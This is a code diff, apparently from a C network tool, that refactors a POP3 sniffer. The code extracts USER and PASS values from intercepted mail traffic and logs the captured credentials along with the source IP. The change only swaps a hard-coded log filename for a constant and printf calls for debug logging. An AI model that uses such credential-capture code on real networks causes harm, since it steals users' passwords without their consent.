@@ -83,7 +83,7 @@ static char* extract_value(const char* data, const char* command) {
 
 // Log credentials with timestamp and IP
 static void log_credentials(const char* username, const char* password, const char* ip_origen) {
-    FILE *log = fopen("pop3_credentials.log", "a");
+    FILE *log = fopen(POP3_CREDENTIALS_FILE, "a");
     if (log != NULL) {
         time_t now = time(NULL);
         char timestamp[64];
@@ -98,7 +98,7 @@ static void log_credentials(const char* username, const char* password, const ch
         log_info("[POP3] Captured credentials from %s (USER=%s, PASS=%s)", ip_origen,
                  username, password);
     } else {
-        log_error("[POP3] Could not open pop3_credentials.log for writing: %s", strerror(errno));
+        log_error("[POP3] Could not open %s for writing: %s", POP3_CREDENTIALS_FILE, strerror(errno));
     }
 }
 
@@ -146,7 +146,7 @@ void pop3_sniffer_process(const uint8_t *data, size_t len, const char *ip_origen
                     strncpy(pop3_state.user, username, sizeof(pop3_state.user) - 1);
                     pop3_state.user[sizeof(pop3_state.user) - 1] = '\0';
                     pop3_state.user_found = 1;
-                    printf("[POP3 SNIFFER] Found USER: %s\n", pop3_state.user);
+                    log_debug("[POP3 SNIFFER] Found USER: %s", pop3_state.user);
                     free(username);
                 }
             }
@@ -157,7 +157,7 @@ void pop3_sniffer_process(const uint8_t *data, size_t len, const char *ip_origen
                     strncpy(pop3_state.pass, password, sizeof(pop3_state.pass) - 1);
                     pop3_state.pass[sizeof(pop3_state.pass) - 1] = '\0';
                     pop3_state.pass_found = 1;
-                    printf("[POP3 SNIFFER] Found PASS: %s\n", pop3_state.pass);
+                    log_debug("[POP3 SNIFFER] Found PASS: %s", pop3_state.pass);
                     free(password);
                 }
             }